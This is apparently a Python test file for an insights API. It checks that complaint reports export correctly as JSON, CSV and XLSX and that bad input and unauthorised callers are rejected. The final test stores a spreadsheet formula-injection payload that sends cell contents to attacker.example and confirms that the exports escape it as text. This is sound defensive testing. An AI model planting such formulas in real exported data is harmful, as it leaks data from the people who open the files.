"""GET /api/v1/insights/{report} through the HTTP stack: JSON, CSV and XLSX (opened back), and bad input."""

import csv
import io

import pytest
from openpyxl import load_workbook

from amends.core.tests.api_client import Api

from . import history
from .history import PERIOD


@pytest.fixture
def api(world, now):
    history.policies(world)
    history.build(world)
    return Api(world.token(world.admin))


def test_the_report_list(api):
    names = [r["name"] for r in api.get("/insights").json()["reports"]]
    assert {"volume", "timeliness", "promises", "repeat", "pareto", "regulator"} <= set(names)


def test_a_report_as_json(api):
    answer = api.get("/insights/volume", **PERIOD)
    assert answer.status_code == 200
    data = answer.json()
    assert data["filters"]["since"] == "2026-09-01" and data["filters"]["bucket"] == "month"
    trend = data["sections"][0]
    assert [c["key"] for c in trend["columns"]][:2] == ["period", "complaints"]
    assert [r["complaints"] for r in trend["rows"]] == [2, 2]


def test_a_report_as_csv_has_the_same_figures(api):
    answer = api.get("/insights/volume", format="csv", **PERIOD)
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert 'filename="amends-volume-20260901-20261031.csv"' in answer["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    header = lines.index(["period", "complaints", "cases_opened", "cases_closed", "failures"])
    assert lines[header + 2] == ["2026-09", "2", "2", "1", "3"]
    assert lines[header + 3] == ["2026-10", "2", "2", "0", "3"]


def test_a_report_as_xlsx_opens_with_the_same_figures(api):
    answer = api.get("/insights/timeliness", format="xlsx", **PERIOD)
    assert answer.status_code == 200 and "spreadsheetml" in answer["Content-Type"]
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[3][:4] == ["2026-09", 2, 2, 0]


def test_the_regulator_return_as_xlsx(api):
    answer = api.get("/insights/regulator", format="xlsx", **PERIOD)
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[2][1] == "2026-09-01 – 2026-10-31"
    firsts = [r[0] for r in rows]
    claims = rows[firsts.index("理赔")]
    assert claims[1:4] == [2, 1, 1]  # received, decided, within 15 days
    totals = [r for r in rows if r[0] == "合计"]
    assert len(totals) == 4 and all(t[1] == 4 for t in totals)  # category, line, channel, region blocks
    rates_header = next(i for i, r in enumerate(rows) if r[1] == "有效保单数")
    assert rows[rates_header + 1][:4] == [4, 3, 265000.0, 3]
    assert rows[rates_header + 1][4] == 13333.33


def test_bad_input(api, world):
    assert api.get("/insights/nothing").status_code == 404
    wrong = api.get("/insights/volume", format="pdf")
    assert wrong.status_code == 422 and "format" in wrong.json()["fields"]
    bad = api.get("/insights/volume", since="yesterday", channel="pigeon")
    assert bad.status_code == 422 and {"since", "channel"} <= set(bad.json()["fields"])
    assert Api(None).get("/insights/volume").status_code == 401
    handler = Api(world.token(world.handler)).get("/insights/volume")
    assert handler.status_code == 403 and handler.json()["error"] == "forbidden"
    outside = Api(world.token(world.supervisor)).get("/insights/volume", unit=str(world.beijing.pk))
    assert outside.status_code == 403 and "unit" in outside.json()["fields"]


def test_the_pareto_drill_down(api):
    answer = api.get("/insights/pareto/cases", touchpoint="auto_claim.payment", **PERIOD)
    assert answer.status_code == 200
    items = answer.json()["items"]
    assert len(items) == 2 and all(i["failures"] == 1 for i in items)
    assert api.get("/insights/pareto/cases", dimension="mood").status_code == 422


def test_retention_confidence_is_checked(api):
    answer = api.get("/insights/retention", **PERIOD)
    assert answer.status_code == 200
    assert [s["key"] for s in answer.json()["sections"]] == [
        "by_time_to_recover",
        "by_outcome",
        "compared",
        "money",
        "compensation",
        "by_timing",
    ]
    assert answer.json()["filters"]["confidence"] == "0.95"
    bad = api.get("/insights/retention", confidence="0.5", **PERIOD)
    assert bad.status_code == 422 and "confidence" in bad.json()["fields"]
    assert api.get("/insights/retention", format="xlsx", **PERIOD).status_code == 200


def test_a_name_that_looks_like_a_formula_is_exported_as_text(api):
    from amends.journeys.models import Touchpoint

    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"点此查看")'
    tp = Touchpoint.objects.get(code="auto_claim.payment")
    tp.names = {"zh-hans": evil, "zh-hant": evil, "en": evil}
    tp.save()
    text = api.get("/insights/pareto", format="csv", **PERIOD).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
    assert cells and all(c.startswith("'" + evil) for c in cells)
    book = load_workbook(io.BytesIO(api.get("/insights/pareto", format="xlsx", **PERIOD).content))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert found and all(c.data_type == "s" and c.value.startswith(evil) for c in found)
